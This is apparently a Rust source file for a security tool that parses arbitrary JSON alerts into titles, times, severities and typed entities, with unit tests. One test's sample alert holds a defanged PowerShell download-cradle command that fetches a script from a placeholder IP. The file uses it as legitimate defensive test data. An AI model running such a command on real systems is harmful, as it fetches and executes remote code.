//! The reader of last resort: any JSON object, nested or flat. It finds a title, times,
//! a severity and typed entities by what the keys are called (`src_ip`, `userName`,
//! `file.sha256`, `@timestamp`), at any depth, within fixed budgets so that no input can
//! make it slow.

use serde_json::{Map, Value};
use sleuth_domain::{ActionTaken, AlertCategory, EntityKind, ParsedAlert, ProcessSignal};

use crate::builder::AlertBuilder;
use crate::registry::Schema;
use crate::{ParseError, json, time};

pub(crate) static SCHEMA: Schema = Schema {
    key: "generic",
    display_name: "Generic JSON alert",
    source_label: "Generic",
    integration: "generic",
    sample: include_str!("../../samples/generic.json"),
    detect: |_| true,
    parse,
};

/// How deep the walk goes, and how many values it looks at, at most.
const MAX_DEPTH: usize = 12;
const MAX_NODES: usize = 5000;

/// Keys that name the alert, best first.
const TITLE_KEYS: &[&str] = &[
    "title",
    "alert title",
    "alert name",
    "alertname",
    "rule name",
    "rulename",
    "detection name",
    "signature",
    "name",
    "summary",
    "subject",
    "event name",
    "message",
    "msg",
    "description",
];

/// Keys that carry when the alert was raised, best first.
const CREATE_TIME_KEYS: &[&str] = &[
    "created at",
    "created",
    "create time",
    "creation time",
    "detected at",
    "detect time",
    "alert time",
    "timestamp",
    "time",
    "event time",
    "date",
    "datetime",
    "ts",
    "generated",
    "reported at",
];

/// Keys that carry when the activity began.
const START_TIME_KEYS: &[&str] = &[
    "start time",
    "first seen",
    "event start",
    "started at",
    "start",
];

const SEVERITY_KEYS: &[&str] = &[
    "severity",
    "severity label",
    "severity name",
    "level",
    "priority",
    "risk level",
    "risk",
    "criticality",
    "urgency",
];

const ID_KEYS: &[&str] = &[
    "alert id",
    "id",
    "event id",
    "incident id",
    "uuid",
    "detection id",
];

const SOURCE_KEYS: &[&str] = &["product", "source", "vendor", "tool", "provider"];

/// One scalar found in the walk: its key (as lower-case words), its value, its depth.
struct Field<'a> {
    key: String,
    value: &'a Value,
    depth: usize,
}

fn parse(raw: &Value, mut alert: AlertBuilder) -> Result<ParsedAlert, ParseError> {
    let fields = collect(raw);
    alert.title(best_text(&fields, TITLE_KEYS).as_deref());
    alert.create_time(best_time(&fields, CREATE_TIME_KEYS));
    alert.start_time(best_time(&fields, START_TIME_KEYS));
    match best_value(&fields, SEVERITY_KEYS) {
        Some(Value::Number(number)) => {
            let score = number.as_f64();
            let maximum = if score.is_some_and(|score| score > 10.0) {
                100.0
            } else {
                10.0
            };
            // Small integers are the 1..4/5 scales most tools use, not scores out of ten.
            match number.as_u64().filter(|level| *level <= 5) {
                Some(level) => alert.severity(Some(&level.to_string())),
                None => alert.severity_score(score, maximum),
            };
        }
        Some(value) => {
            alert.severity(json::scalar_text(value).as_deref());
        }
        None => {}
    }
    let id = best_value(&fields, ID_KEYS).and_then(json::scalar_text);
    alert.ticket(id, "id", None);
    alert.source_label(best_text(&fields, SOURCE_KEYS).as_deref());
    alert.description(best_text(&fields, &["description", "details", "message"]).as_deref());
    read_entities(&fields, &mut alert);
    Ok(alert.finish())
}

/// Every scalar of the alert (strings inside arrays included), breadth first, within
/// the budgets.
fn collect(raw: &Value) -> Vec<Field<'_>> {
    let mut fields = Vec::new();
    let mut queue: std::collections::VecDeque<(String, &Value, usize)> =
        std::collections::VecDeque::new();
    if let Value::Object(map) = raw {
        push_children(&mut queue, "", map, 0);
    }
    let mut visited = 0;
    while let Some((key, value, depth)) = queue.pop_front() {
        visited += 1;
        if visited > MAX_NODES {
            break;
        }
        match value {
            Value::Object(map) if depth < MAX_DEPTH => {
                push_children(&mut queue, &key, map, depth + 1);
            }
            Value::Array(items) if depth < MAX_DEPTH => {
                for item in items.iter().take(100) {
                    queue.push_back((key.clone(), item, depth + 1));
                }
            }
            Value::Object(_) | Value::Array(_) | Value::Null => {}
            scalar => fields.push(Field {
                key,
                value: scalar,
                depth,
            }),
        }
    }
    fields
}

fn push_children<'a>(
    queue: &mut std::collections::VecDeque<(String, &'a Value, usize)>,
    parent_key: &str,
    map: &'a Map<String, Value>,
    depth: usize,
) {
    for (key, value) in map.iter().take(500) {
        queue.push_back((qualified_key(parent_key, &key_words(key)), value, depth));
    }
}

/// Leaf keys that say nothing without their parent: `user: {name: ...}` is a user name,
/// `host: {name: ...}` a host name, `rule: {name: ...}` a rule name.
const GENERIC_LEAVES: &[&str] = &[
    "name",
    "id",
    "value",
    "address",
    "addr",
    "full name",
    "names",
];

/// The words a value is judged by: its own key, qualified by its parent's last word when
/// its own key is one of the generic leaves.
fn qualified_key(parent_key: &str, own: &str) -> String {
    let parent_last = parent_key.rsplit(' ').next().unwrap_or_default();
    if GENERIC_LEAVES.contains(&own) && !parent_last.is_empty() {
        format!("{parent_last} {own}")
    } else {
        own.to_string()
    }
}

/// A key as lower-case words: "srcIP", "src_ip" and "Src-IP" all become "src ip";
/// "SourceIPAddress" becomes "source ip address"; "@timestamp" becomes "timestamp".
fn key_words(key: &str) -> String {
    let characters: Vec<char> = key.chars().take(100).collect();
    let mut words = String::new();
    for (index, character) in characters.iter().enumerate() {
        if !character.is_alphanumeric() {
            if !words.ends_with(' ') && !words.is_empty() {
                words.push(' ');
            }
            continue;
        }
        let previous = index.checked_sub(1).and_then(|at| characters.get(at));
        let next = characters.get(index + 1);
        let starts_word = character.is_uppercase()
            && previous.is_some_and(|previous| {
                previous.is_lowercase()
                    || previous.is_ascii_digit()
                    || (previous.is_uppercase() && next.is_some_and(|next| next.is_lowercase()))
            });
        if starts_word && !words.ends_with(' ') && !words.is_empty() {
            words.push(' ');
        }
        words.extend(character.to_lowercase());
    }
    words.trim_end().to_string()
}

/// The value of the best-ranked key present, shallowest first among equals.
fn best_value<'a>(fields: &[Field<'a>], keys: &[&str]) -> Option<&'a Value> {
    keys.iter().find_map(|wanted| {
        fields
            .iter()
            .filter(|field| field.key == *wanted)
            .min_by_key(|field| field.depth)
            .map(|field| field.value)
    })
}

fn best_text(fields: &[Field<'_>], keys: &[&str]) -> Option<String> {
    keys.iter().find_map(|wanted| {
        fields
            .iter()
            .filter(|field| field.key == *wanted)
            .filter_map(|field| field.value.as_str().map(|text| (field.depth, text)))
            .filter(|(_, text)| !json::is_placeholder(text))
            .min_by_key(|(depth, _)| *depth)
            .map(|(_, text)| text.trim().to_string())
    })
}

fn best_time(fields: &[Field<'_>], keys: &[&str]) -> Option<sleuth_domain::Timestamp> {
    keys.iter().find_map(|wanted| {
        fields
            .iter()
            .filter(|field| {
                // The key, or its last words (`event created` for `created`).
                field
                    .key
                    .strip_suffix(wanted)
                    .is_some_and(|rest| rest.is_empty() || rest.ends_with(' '))
            })
            .filter_map(|field| time::parse_value(field.value).map(|time| (field.depth, time)))
            .min_by_key(|(depth, _)| *depth)
            .map(|(_, time)| time)
    })
}

/// What kind of thing a key names, by its words.
fn kind_of_key(key: &str) -> Option<KeyKind> {
    let words: Vec<&str> = key.split(' ').collect();
    let has = |word: &str| words.contains(&word);
    let last = words.last().copied().unwrap_or_default();
    Some(if has("sha256") {
        KeyKind::Entity(EntityKind::HashSha256)
    } else if has("sha1") {
        KeyKind::Entity(EntityKind::HashSha1)
    } else if has("md5") {
        KeyKind::Entity(EntityKind::HashMd5)
    } else if has("hash") {
        KeyKind::Hash
    } else if has("ip") || has("ipv4") || has("ipv6") || key == "ip address" || last == "addr" {
        KeyKind::Entity(EntityKind::Ip)
    } else if has("url") || has("uri") || has("link") {
        KeyKind::Entity(EntityKind::Url)
    } else if has("email") || has("mail") || has("sender") || has("recipient") {
        KeyKind::Entity(EntityKind::Email)
    } else if has("command") || has("cmdline") || has("cmd") {
        KeyKind::CommandLine
    } else if has("hostname")
        || has("host")
        || has("computer")
        || has("machine")
        || key == "device name"
        || has("workstation")
    {
        KeyKind::Host
    } else if has("domain") || has("fqdn") {
        KeyKind::Entity(EntityKind::Domain)
    } else if has("user")
        || has("username")
        || (has("account") && !has("id"))
        || has("upn")
        || (has("login") && has("name"))
    {
        KeyKind::User
    } else if has("process") || last == "image" || last == "exe" {
        KeyKind::Process
    } else if has("path") || key == "file" || key == "file name" || key == "filename" {
        KeyKind::Entity(EntityKind::FilePath)
    } else if key == "account id"
        || has("subscription")
        || key == "project id"
        || key == "aws account"
    {
        KeyKind::Entity(EntityKind::CloudAccount)
    } else if has("arn") || key == "resource id" || key == "resource" {
        KeyKind::Entity(EntityKind::CloudResource)
    } else if matches!(
        last,
        "description" | "message" | "details" | "msg" | "summary"
    ) {
        KeyKind::FreeText
    } else if matches!(last, "action" | "disposition" | "outcome") {
        KeyKind::Action
    } else if has("tactic") {
        KeyKind::Tactic
    } else if has("technique") {
        KeyKind::Technique
    } else {
        return None;
    })
}

#[derive(Debug, Clone, Copy, PartialEq)]
enum KeyKind {
    Entity(EntityKind),
    Hash,
    Host,
    User,
    Process,
    CommandLine,
    FreeText,
    Action,
    Tactic,
    Technique,
}

fn read_entities(fields: &[Field<'_>], alert: &mut AlertBuilder) {
    let mut process = ProcessSignal::default();
    let mut seen_kinds = Vec::new();
    for field in fields {
        let Some(kind) = kind_of_key(&field.key) else {
            continue;
        };
        let Some(text) = field.value.as_str() else {
            continue;
        };
        seen_kinds.push(kind);
        match kind {
            KeyKind::Entity(entity_kind) => {
                alert.entity(entity_kind, Some(text));
            }
            KeyKind::Hash => {
                alert.hash(Some(text));
            }
            KeyKind::Host => {
                alert.host(Some(text));
            }
            KeyKind::User => {
                if text.contains('@') {
                    alert.entity(EntityKind::Email, Some(text));
                }
                alert.entity(EntityKind::User, Some(text));
            }
            KeyKind::Process => {
                alert.entity(EntityKind::Process, Some(text));
                process.name.get_or_insert_with(|| text.to_string());
            }
            KeyKind::CommandLine => {
                // The first command line becomes the process signal's, which finishing the
                // alert sweeps; sweeping it here as well read the same text twice.
                if process.command_line.is_none() {
                    process.command_line = Some(text.to_string());
                } else {
                    alert.sweep(Some(text));
                }
            }
            KeyKind::FreeText => {
                alert.sweep(Some(text));
            }
            KeyKind::Action => {
                if alert.signals.action.is_none() {
                    alert.signals.action = action_word(text);
                }
            }
            KeyKind::Tactic => {
                alert.tactic(Some(text));
            }
            KeyKind::Technique => {
                alert.technique(Some(text));
            }
        }
    }
    if process != ProcessSignal::default() {
        alert.signals.process = Some(process);
    }
    alert.signals.category = guess_category(&seen_kinds);
}

/// What a tool's action word says it did.
pub(crate) fn action_word(text: &str) -> Option<ActionTaken> {
    let lowered = text.to_ascii_lowercase();
    const BLOCKED: &[&str] = &[
        "block",
        "prevent",
        "quarantin",
        "kill",
        "drop",
        "deny",
        "denied",
        "reject",
        "remediat",
        "deleted",
        "contain",
        "stopped",
    ];
    const ALLOWED: &[&str] = &["allow", "permit", "deliver", "accept", "pass"];
    if BLOCKED.iter().any(|word| lowered.contains(word)) {
        Some(ActionTaken::Blocked)
    } else if ALLOWED.iter().any(|word| lowered.contains(word)) {
        Some(ActionTaken::Allowed)
    } else if ["detect", "alert", "log", "monitor", "none"]
        .iter()
        .any(|word| lowered.contains(word))
    {
        Some(ActionTaken::Observed)
    } else {
        None
    }
}

/// The category the keys of an unknown format suggest; none when they say nothing.
fn guess_category(kinds: &[KeyKind]) -> Option<AlertCategory> {
    let has = |kind: KeyKind| kinds.contains(&kind);
    if has(KeyKind::Process) || has(KeyKind::CommandLine) || has(KeyKind::Hash) {
        Some(AlertCategory::Endpoint)
    } else if has(KeyKind::Entity(EntityKind::Email)) && !has(KeyKind::User) {
        Some(AlertCategory::Email)
    } else if has(KeyKind::Entity(EntityKind::CloudAccount))
        || has(KeyKind::Entity(EntityKind::CloudResource))
    {
        Some(AlertCategory::Cloud)
    } else if has(KeyKind::User) {
        Some(AlertCategory::Identity)
    } else if has(KeyKind::Entity(EntityKind::Ip)) {
        Some(AlertCategory::Network)
    } else {
        None
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;
    use sleuth_domain::SeverityLevel;

    use super::*;
    use crate::parse_alert;

    fn read(raw: Value) -> ParsedAlert {
        parse_alert(Some("generic"), &raw, chrono::Utc::now()).expect("generic reads anything")
    }

    fn has(parsed: &ParsedAlert, kind: EntityKind, value: &str) -> bool {
        parsed
            .entities
            .iter()
            .any(|entity| entity.kind == kind && entity.value == value)
    }

    #[test]
    fn key_names_become_words_whatever_their_style() {
        let cases = [
            ("srcIP", "src ip"),
            ("src_ip", "src ip"),
            ("SourceIPAddress", "source ip address"),
            ("@timestamp", "timestamp"),
            ("file.sha256", "file sha256"),
            ("userPrincipalName", "user principal name"),
            ("Title", "title"),
        ];
        for (key, expected) in cases {
            assert_eq!(key_words(key), expected, "{key}");
        }
    }

    #[test]
    fn a_flat_alert_yields_title_time_severity_and_entities() {
        let parsed = read(json!({
            "alert_name": "Suspicious PowerShell download cradle",
            "created": "2026-03-01T12:00:00Z",
            "severity": "High",
            "hostname": "WKS-0231",
            "username": "r.patel@example.com",
            "src_ip": "10.20.30.40",
            "command_line": "powershell -c iwr hxxp://198.51.100.23/a.ps1",
            "sha256": "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"
        }));
        assert_eq!(parsed.title, "Suspicious PowerShell download cradle");
        assert_eq!(parsed.create_time.to_rfc3339(), "2026-03-01T12:00:00+00:00");
        assert_eq!(parsed.severity.as_deref(), Some("high"));
        assert_eq!(parsed.signals.severity_level, Some(SeverityLevel::High));
        assert_eq!(parsed.signals.category, Some(AlertCategory::Endpoint));
        assert!(has(&parsed, EntityKind::Host, "wks-0231"));
        assert!(has(&parsed, EntityKind::Email, "r.patel@example.com"));
        assert!(has(&parsed, EntityKind::User, "r.patel@example.com"));
        assert!(has(&parsed, EntityKind::Ip, "10.20.30.40"));
        assert!(has(&parsed, EntityKind::Url, "http://198.51.100.23/a.ps1"));
        assert!(has(
            &parsed,
            EntityKind::HashSha256,
            "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"
        ));
    }

    #[test]
    fn a_nested_alert_with_epoch_times_reads_too() {
        let parsed = read(json!({
            "event": {"timestamp": 1_772_366_400_000_u64, "rule": {"name": "Brute force"}},
            "source": {"ip": "203.0.113.7"},
            "destination": {"user": {"name": "admin"}},
            "level": 4
        }));
        assert_eq!(parsed.create_time.to_rfc3339(), "2026-03-01T12:00:00+00:00");
        assert_eq!(parsed.title, "Brute force");
        assert_eq!(parsed.signals.severity_level, Some(SeverityLevel::Critical));
        assert!(has(&parsed, EntityKind::Ip, "203.0.113.7"));
        assert!(has(&parsed, EntityKind::User, "admin"));
    }

    #[test]
    fn shallow_keys_win_over_deep_ones() {
        let parsed = read(json!({
            "title": "Outer",
            "details": {"title": "Inner"}
        }));
        assert_eq!(parsed.title, "Outer");
    }

    #[test]
    fn an_empty_object_still_makes_an_alert() {
        let parsed = read(json!({}));
        assert_eq!(parsed.title, "Generic alert");
        assert!(parsed.entities.is_empty());
    }

    #[test]
    fn a_huge_alert_is_read_within_the_budget() {
        let wide: Map<String, Value> = (0..20_000)
            .map(|index| {
                (
                    format!("k{index}"),
                    json!({"ip": format!("10.0.{}.{}", index / 250 % 250, index % 250 + 1)}),
                )
            })
            .collect();
        let parsed = read(Value::Object(wide));
        assert!(parsed.entities.len() <= crate::entities::MAX_ENTITIES);
    }

    #[test]
    fn action_words_map_to_what_the_tool_did() {
        assert_eq!(action_word("Prevented"), Some(ActionTaken::Blocked));
        assert_eq!(action_word("quarantined"), Some(ActionTaken::Blocked));
        assert_eq!(action_word("delivered"), Some(ActionTaken::Allowed));
        assert_eq!(action_word("detected"), Some(ActionTaken::Observed));
        assert_eq!(action_word("banana"), None);
    }
}
